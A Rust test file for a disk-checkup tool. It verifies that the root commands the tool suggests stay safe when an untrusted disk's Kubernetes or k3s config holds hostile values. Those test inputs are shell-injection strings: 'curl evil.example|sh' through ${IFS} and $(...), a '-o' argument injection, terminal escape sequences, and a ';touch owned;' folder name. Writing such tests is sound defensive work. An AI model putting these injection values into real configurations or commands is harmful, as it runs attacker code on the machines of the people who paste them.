//! What the doctor tells a person to paste, as root, about a disk whose content another party wrote.

use super::*;
use reveille_agent::checkup::checkup;

fn put(root: &Root, path: &str, text: &str) {
    fs::create_dir_all(root.at(path).parent().unwrap()).unwrap();
    fs::write(root.at(path), text).unwrap();
}

/// The commands about a disk with these files.
async fn commands(files: &[(&str, &str)]) -> Vec<String> {
    let disk = tempfile::tempdir().unwrap();
    let root = Root::new(disk.path());
    files.iter().for_each(|(path, text)| put(&root, path, text));
    let target = Target::of_machine(&root);
    let aim = target.as_ref().map(Option::as_ref);
    let checks = checkup(&Probe::of_folder(root.clone()).facts(aim).await);
    checks.into_iter().filter_map(|check| check.advice).flat_map(|advice| advice.commands).collect()
}

#[tokio::test]
async fn server_of_a_disk_that_is_no_host_stands_in_no_command() {
    for server in [
        "https://x;curl${IFS}evil.example|sh;:6443",
        "https://x\\e[2J\\e]0;owned\\a\\nall-is-well:6443",
        "https://$(curl${IFS}evil.example):6443",
        "https://-oevil.example:6443",
    ] {
        let conf = format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: l\n  cluster: {{server: \"{server}\"}}\n\
             contexts:\n- name: c\n  context: {{cluster: l, user: u}}\nusers:\n- name: u\n  user: {{}}\n"
        );
        let told = commands(&[("/etc/kubernetes/kubelet.conf", &conf)]).await;
        let is_odd = |line: &String| {
            line.chars().any(char::is_control) || line.contains("owned") || line.contains("evil.example")
        };
        assert!(!told.iter().any(is_odd), "{server}: {told:#?}");
    }
}

#[tokio::test]
async fn folder_of_a_disk_is_one_word_of_a_command() {
    let folder = "/x;touch owned;";
    let config = format!("server: https://127.0.0.1:1\ntoken: c4naryc4naryc4nary\ndata-dir: \"{folder}\"\n");
    let told = commands(&[
        ("/etc/rancher/k3s/config.yaml", &config),
        ("/etc/systemd/system/k3s-agent.service", "[Service]\nExecStart=/usr/local/bin/k3s agent\n"),
        (&format!("{folder}/agent/kubelet.kubeconfig"), "clusters: 7\n"),
    ])
    .await;
    let naming: Vec<_> = told.iter().filter(|line| line.contains("touch owned")).collect();
    assert!(!naming.is_empty(), "{told:#?}");
    for line in naming {
        assert!(!line.replace("'/x;touch owned;'/agent/", "").contains("owned"), "{line}");
    }
}
